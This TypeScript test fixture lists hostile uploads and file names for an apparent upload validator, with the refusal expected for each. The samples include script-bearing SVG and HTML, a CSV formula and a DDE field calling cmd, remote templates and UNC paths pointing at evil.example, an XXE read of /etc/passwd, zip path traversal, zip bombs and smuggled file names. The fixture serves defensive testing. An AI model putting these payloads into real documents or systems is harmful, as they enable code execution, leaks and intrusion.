import type { FileKind, FileProblem } from "@/lib/files";
import { FILE_BYTES_MAX } from "@/lib/files";
import { ACTIVE_PDFS, CLOSED_PDFS } from "./active-pdfs";
import { encryptedPdf, pdfOf } from "./pdf-file";
import { heicOf, hollowPng, jpegOf, photoWithPlace } from "./picture-file";
import { contentTypes, docxOf, type Part, paragraph, relations, wordBody, xlsxOf, zipOf } from "./zip-file";

/** A malicious or invalid file, and what must happen to it. */
type Hostile = {
  readonly what: string;
  /** The name under which it is uploaded. */
  readonly name: string;
  readonly bytes: () => Buffer | Promise<Buffer>;
} & (
  | { readonly refused: FileProblem; readonly kept?: undefined }
  /** The file is accepted; `gone` lists what must have been removed from it. */
  | { readonly kept: FileKind; readonly gone: readonly string[]; readonly refused?: undefined }
);

const text = (words: string) => () => Buffer.from(words);
const SCRIPT = "<script>alert(document.cookie)</script>";
const OLD = Buffer.from("d0cf11e0a1b11ae1", "hex");
const bomb = (data: Buffer): Part => ({ name: "word/media/image1.bmp", data });
const field = (...runs: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join("")}</w:p>`;

export const HOSTILE_FILES: readonly Hostile[] = [
  {
    what: "a drawing with a script",
    name: "logo.svg",
    bytes: text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
    refused: "web-page",
  },
  {
    what: "a drawing that calls itself a photo",
    name: "photo.png",
    bytes: text(`<?xml version="1.0"?>\n<svg onload="alert(1)"/>`),
    refused: "web-page",
  },
  {
    what: "a web page that calls itself a PDF",
    name: "report.pdf",
    bytes: text(`<!DOCTYPE html><html><body>${SCRIPT}</body></html>`),
    refused: "web-page",
  },
  {
    what: "a web page behind spaces that calls itself Word",
    name: "report.docx",
    bytes: text(`\ufeff   \n<HTML><BODY>${SCRIPT}`),
    refused: "web-page",
  },
  {
    what: "a web page in sixteen bits",
    name: "report.pdf",
    bytes: () => Buffer.from(`<html>${SCRIPT}`, "utf16le"),
    refused: "web-page",
  },
  {
    what: "a saved web page",
    name: "page.mht",
    bytes: text("MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html>"),
    refused: "web-page",
  },
  {
    what: "a script",
    name: "invoice.js",
    bytes: text('new ActiveXObject("WScript.Shell").Run("calc")'),
    refused: "wrong-kind",
  },
  {
    what: "a shortcut of the desktop",
    name: "invoice.pdf.lnk",
    bytes: () => Buffer.from("4c0000000114020000000000c000000000000046", "hex"),
    refused: "wrong-kind",
  },
  {
    what: "a table of text with a formula that calls a program",
    name: "figures.csv",
    bytes: text(`item,value\n=cmd|' /C calc'!A0,1\n`),
    refused: "wrong-kind",
  },
  {
    what: "a program under two endings",
    name: "invoice.pdf.exe",
    bytes: text("MZ\x90\x00\x03 this program cannot be run"),
    refused: "wrong-kind",
  },
  {
    what: "a moving picture of the web",
    name: "photo.gif",
    bytes: text("GIF89a\x01\x00\x01\x00;"),
    refused: "wrong-kind",
  },
  {
    what: "a film",
    name: "Film.mov",
    bytes: text("\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00moov"),
    refused: "wrong-kind",
  },
  { what: "a plain zip", name: "all.zip", bytes: () => zipOf([{ name: "a.txt", data: "a" }]), refused: "wrong-kind" },
  {
    what: "a zip that calls itself Word",
    name: "report.docx",
    bytes: () => zipOf([{ name: "word/document.xml", data: "<a/>" }]),
    refused: "wrong-kind",
  },
  {
    what: "an old Word document",
    name: "report.doc",
    bytes: () => Buffer.concat([OLD, Buffer.alloc(2048)]),
    refused: "old-office",
  },
  {
    what: "an old workbook that calls itself new",
    name: "figures.xlsx",
    bytes: () => Buffer.concat([OLD, Buffer.from("Workbook", "utf16le")]),
    refused: "old-office",
  },
  {
    what: "a Word document behind a password",
    name: "report.docx",
    bytes: () => Buffer.concat([OLD, Buffer.alloc(600), Buffer.from("EncryptedPackage", "utf16le")]),
    refused: "protected",
  },
  { what: "a PDF behind a password", name: "report.pdf", bytes: encryptedPdf, refused: "protected" },
  {
    what: "a document with a part that is locked",
    name: "report.docx",
    bytes: () => docxOf([{ name: "word/a.xml", data: "<a/>", encrypted: true }]),
    refused: "protected",
  },
  {
    what: "a document made for macros under another ending",
    name: "report.docx",
    bytes: () => zipOf([contentTypes("docm"), wordBody(paragraph("x"))]),
    refused: "macros",
  },
  {
    what: "a document with a macro project it does not tell of",
    name: "report.docx",
    bytes: () => docxOf([{ name: "word/vbaProject.bin", data: "x" }]),
    refused: "macros",
  },
  {
    what: "a workbook with macros of the old kind",
    name: "figures.xlsx",
    bytes: () => xlsxOf([{ name: "xl/macrosheets/sheet1.xml", data: "<a/>" }]),
    refused: "macros",
  },
  {
    what: "a document that fetches its template",
    name: "report.docx",
    bytes: () =>
      docxOf([relations("word/_rels/settings.xml.rels", "attachedTemplate", "https://evil.example/t.dotm", true)]),
    refused: "outside-link",
  },
  {
    what: "a document that fetches a picture and tells who opened it",
    name: "report.docx",
    bytes: () => docxOf([relations("word/_rels/document.xml.rels", "image", "\\\\evil.example\\share\\a.png", true)]),
    refused: "outside-link",
  },
  {
    what: "a document whose link runs a script",
    name: "report.docx",
    bytes: () => docxOf([relations("word/_rels/document.xml.rels", "hyperlink", "&#106;avascript:alert(1)", true)]),
    refused: "outside-link",
  },
  {
    what: "a workbook that reads another one",
    name: "figures.xlsx",
    bytes: () => xlsxOf([{ name: "xl/externalLinks/externalLink1.xml", data: "<ddeLink/>" }]),
    refused: "outside-link",
  },
  {
    what: "a document with a field, cut in two, that calls a program",
    name: "report.docx",
    bytes: () => docxOf([], field("DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    refused: "outside-link",
  },
  {
    what: "a document with an object of another program in it",
    name: "report.docx",
    bytes: () => docxOf([{ name: "word/embeddings/oleObject1.bin", data: OLD }]),
    refused: "program-inside",
  },
  {
    what: "a document with a control in it",
    name: "report.docx",
    bytes: () => docxOf([{ name: "word/activeX/activeX1.xml", data: "<a/>" }]),
    refused: "program-inside",
  },
  {
    what: "a document that brings a web page along",
    name: "report.docx",
    bytes: () => docxOf([relations("word/_rels/document.xml.rels", "aFChunk", "afchunk.mht")]),
    refused: "program-inside",
  },
  {
    what: "a document with a program as a picture",
    name: "report.docx",
    bytes: () => docxOf([{ name: "word/media/image1.png", data: "MZ\x90\x00" }]),
    refused: "program-inside",
  },
  {
    what: "a PDF with a program attached",
    name: "report.pdf",
    bytes: () =>
      pdfOf("x", {
        catalog: "/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>",
        objects: [
          "<</Type/Filespec/F(update.exe)/UF(update.exe)/EF<</F 7 0 R>>>>",
          "<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
        ],
      }),
    refused: "program-inside",
  },
  {
    what: "a zip bomb that tells the truth",
    name: "report.docx",
    bytes: () => docxOf([bomb(Buffer.alloc(151 * 1024 * 1024))]),
    refused: "too-much-inside",
  },
  {
    what: "a zip bomb that lies about its size",
    name: "report.docx",
    bytes: () => docxOf([{ ...bomb(Buffer.alloc(8 * 1024 * 1024)), stated: 1000 }]),
    refused: "too-much-inside",
  },
  {
    what: "a zip bomb whose parts share their bytes",
    name: "report.docx",
    bytes: () =>
      docxOf([{ name: "[content_types].xml2", localName: "[Content_Types].xml", data: "x", overlaps: true }]),
    refused: "disguised",
  },
  {
    what: "a zip in a zip",
    name: "report.docx",
    bytes: () => docxOf([{ name: "word/media/a.zip", data: zipOf([{ name: "b", data: "b" }]) }]),
    refused: "too-much-inside",
  },
  {
    what: "documents in documents in documents",
    name: "report.docx",
    bytes: () =>
      docxOf([{ name: "word/embeddings/a.docx", data: docxOf([{ name: "word/embeddings/b.docx", data: docxOf() }]) }]),
    refused: "too-much-inside",
  },
  {
    what: "a document that would unpack over other files",
    name: "report.docx",
    bytes: () => docxOf([{ name: "word/../../../etc/cron.d/x", data: "x" }]),
    refused: "disguised",
  },
  {
    what: "a document with two parts of one name",
    name: "report.docx",
    bytes: () => docxOf([wordBody(paragraph("another"))]),
    refused: "disguised",
  },
  {
    what: "a document whose parts call themselves differently twice",
    name: "report.docx",
    bytes: () => docxOf([{ name: "word/a.xml", localName: "word/b.xml", data: "<a/>" }]),
    refused: "disguised",
  },
  ...["<!--", "<?", "<![CDATA[", "<w:t ", "<w:t>"].map((begun) => ({
    what: `a document with ${begun} without an end, many times`,
    name: "report.docx",
    bytes: () => docxOf([], begun.repeat(500_000)),
    refused: "disguised" as const,
  })),
  {
    what: "a document with something behind it",
    name: "report.docx",
    bytes: () => Buffer.concat([docxOf(), Buffer.from(SCRIPT)]),
    refused: "disguised",
  },
  {
    what: "a document that reads files of the machine",
    name: "report.docx",
    bytes: () =>
      zipOf([
        contentTypes("docx"),
        { name: "word/document.xml.rels", data: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>` },
      ]),
    refused: "disguised",
  },
  {
    what: "a PDF that is a zip as well",
    name: "report.pdf",
    bytes: () => Buffer.concat([pdfOf(), zipOf([{ name: "a.js", data: "x" }])]),
    refused: "disguised",
  },
  { what: "nothing", name: "report.pdf", bytes: () => Buffer.alloc(0), refused: "empty" },
  {
    what: "one byte more than 20 MB",
    name: "report.pdf",
    bytes: () => Buffer.concat([pdfOf(), Buffer.alloc(FILE_BYTES_MAX + 1 - pdfOf().length)]),
    refused: "too-large",
  },
  {
    what: "a picture of sixty thousand pixels a side",
    name: "photo.png",
    bytes: () => hollowPng(60_000, 60_000),
    refused: "too-many-pixels",
  },
  {
    what: "a photo that was cut off",
    name: "photo.jpg",
    bytes: async () => (await jpegOf(900, 900)).subarray(0, 2000),
    refused: "damaged",
  },
  { what: "a PDF that was cut off", name: "report.pdf", bytes: () => pdfOf().subarray(0, 300), refused: "damaged" },
  { what: "a PDF with nothing in it", name: "report.pdf", bytes: text("%PDF-1.7\n%%EOF\n"), refused: "damaged" },
  {
    what: "a document that was cut off",
    name: "report.docx",
    bytes: () => docxOf().subarray(0, 400),
    refused: "damaged",
  },
  {
    what: "a document with a wrong checksum",
    name: "report.docx",
    bytes: () => docxOf([{ name: "word/a.xml", data: "<a/>", wrongChecksum: true }]),
    refused: "damaged",
  },
  {
    what: "a photo of a phone that was cut off",
    name: "IMG_0001.HEIC",
    bytes: () => heicOf().subarray(0, 300),
    refused: "damaged",
  },
  ...[...ACTIVE_PDFS, ...CLOSED_PDFS].map((pdf) => ({ ...pdf, what: `a PDF with ${pdf.what}`, name: "report.pdf" })),
  {
    what: "a photo with the place where it was taken",
    name: "IMG_0002.JPG",
    bytes: photoWithPlace,
    kept: "jpeg",
    gone: ["GPS", "Secret Phone", "Exif"],
  },
  {
    what: "a photo that is a web page as well",
    name: "photo.jpg",
    bytes: async () => Buffer.concat([await jpegOf(), Buffer.from(`<html>${SCRIPT}`)]),
    kept: "jpeg",
    gone: ["<script>", "<html>"],
  },
  {
    what: "a photo with a zip behind it",
    name: "photo.jpg",
    bytes: async () => Buffer.concat([await jpegOf(), zipOf([{ name: "a.js", data: "x" }])]),
    kept: "jpeg",
    gone: ["PK\x03\x04", "a.js"],
  },
];

/** Names as typed or sent, and as they must be shown and saved. */
export const HOSTILE_NAMES: readonly {
  readonly what: string;
  readonly typed: string;
  readonly kind: FileKind;
  readonly shown: string;
}[] = [
  { what: "a path upwards", typed: "../../etc/passwd", kind: "pdf", shown: "passwd.pdf" },
  { what: "a path of Windows", typed: "C:\\Users\\li\\Audit log.xlsx", kind: "xlsx", shown: "Audit log.xlsx" },
  { what: "an end in the middle", typed: "report.pdf\0.exe", kind: "pdf", shown: "report.pdf" },
  { what: "a name that is read backwards", typed: "invoice\u202Efdp.exe", kind: "pdf", shown: "invoicefdp.pdf" },
  {
    what: "letters that cannot be seen",
    typed: "re\u200Bport\u2066\u2069\uFEFF.pdf",
    kind: "pdf",
    shown: "report.pdf",
  },
  { what: "two endings", typed: "invoice.pdf.exe", kind: "pdf", shown: "invoice.pdf" },
  { what: "an ending that lies", typed: "photo.svg.html", kind: "jpeg", shown: "photo.jpg" },
  { what: "new lines", typed: "a\r\nContent-Type: text/html\r\n\r\nb.pdf", kind: "pdf", shown: "htmlb.pdf" },
  {
    what: "a tag",
    typed: '<img src=x onerror="alert(1)">.png',
    kind: "png",
    shown: "-img src=x onerror=-alert(1)--.png",
  },
  { what: "a device", typed: "CON.pdf", kind: "pdf", shown: "_CON.pdf" },
  { what: "a hidden file", typed: "....htaccess", kind: "pdf", shown: "htaccess.pdf" },
  { what: "nothing but dots", typed: "...", kind: "docx", shown: "file.docx" },
  { what: "nothing", typed: "", kind: "png", shown: "file.png" },
  { what: "half a character", typed: "a\ud800b.pdf", kind: "pdf", shown: "a\ufffdb.pdf" },
  {
    what: "accents that climb over the page",
    typed: `a${"\u0301\u0302\u0303\u0304\u0305\u0306".repeat(20)}.pdf`,
    kind: "pdf",
    shown: "á\u0302\u0303\u0304.pdf",
  },
  { what: "a very long name", typed: `${"长".repeat(400)}.pdf`, kind: "pdf", shown: `${"长".repeat(100)}.pdf` },
  {
    what: "a Chinese name, which is none",
    typed: "2026年出访报告（诺德海姆）.pdf",
    kind: "pdf",
    shown: "2026年出访报告（诺德海姆）.pdf",
  },
  {
    what: "an umlaut, which is none",
    typed: "Visit report Nordhem, A\u0308lmhult.PDF",
    kind: "pdf",
    shown: "Visit report Nordhem, Älmhult.PDF",
  },
  { what: "a version, which is none", typed: "Work standard v1.2", kind: "docx", shown: "Work standard v1.2.docx" },
];
